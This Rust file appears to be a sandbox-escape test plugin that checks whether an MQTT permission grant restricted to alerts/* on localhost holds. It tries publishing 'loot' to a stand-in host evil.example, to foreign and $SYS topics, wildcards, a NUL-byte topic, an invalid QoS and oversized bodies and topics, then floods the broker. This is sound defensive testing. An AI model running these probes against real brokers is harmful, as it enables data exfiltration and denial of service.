//! Publishes to topics that are not its own, and without end.

use guest_kit::{
    Attack, ConfigOption, Notification, Receipt, SendError, Want, attack, mqtt, option, report, want,
};

struct FloodsTopics;

fn server(port: u16) -> mqtt::Server {
    let (host, version) = ("127.0.0.1".into(), "5".into());
    mqtt::Server { host, port, tls: false, version, client_id: String::new(), login: None }
}

fn message(topic: &str) -> mqtt::Message {
    mqtt::Message {
        topic: topic.into(),
        content_type: String::new(),
        headers: Vec::new(),
        body: b"loot".to_vec(),
        qos: 1,
        retain: false,
    }
}

fn tried(name: &str, server: mqtt::Server, message: mqtt::Message) -> String {
    match mqtt::publish(&mqtt::Broker::Server(server), &message) {
        Ok(()) => format!("{name} => published"),
        Err(error) => format!("{name} => {}: {}", error.code, error.message),
    }
}

impl Attack for FloodsTopics {
    const NAME: &'static str = "floods-topics";

    fn wants() -> Vec<Want> {
        vec![want("mqtt", "mqtt://127.0.0.1:{port} topic:alerts/*")]
    }

    fn options() -> Vec<ConfigOption> {
        vec![option("port", "number")]
    }

    /// `event.message` is the granted port. Nobody listens there.
    fn send(notification: Notification) -> Result<Receipt, SendError> {
        let port: u16 = notification.event.message.parse().expect("a port");
        let said = [
            tried(
                "another broker",
                mqtt::Server { host: "evil.example".into(), ..server(port) },
                message("alerts/a"),
            ),
            tried("another topic", server(port), message("other")),
            tried("the broker's own topic", server(port), message("$SYS/x")),
            tried("all topics", server(port), message("alerts/#")),
            tried("a broken topic", server(port), message("alerts/\u{0}")),
            tried("another QoS", server(port), mqtt::Message { qos: 3, ..message("alerts/a") }),
            tried(
                "a large body",
                server(port),
                mqtt::Message { body: vec![0; 300 << 10], ..message("alerts/a") },
            ),
            tried("a long topic", server(port), message(&format!("alerts/{}", "a".repeat(2000)))),
        ];
        let mut flood: Vec<_> =
            (0..12).map(|_| tried("one more", server(port), message("alerts/a"))).collect();
        flood.dedup();
        report([&said[..], &flood].concat().join("\n"))
    }
}

attack!(FloodsTopics);
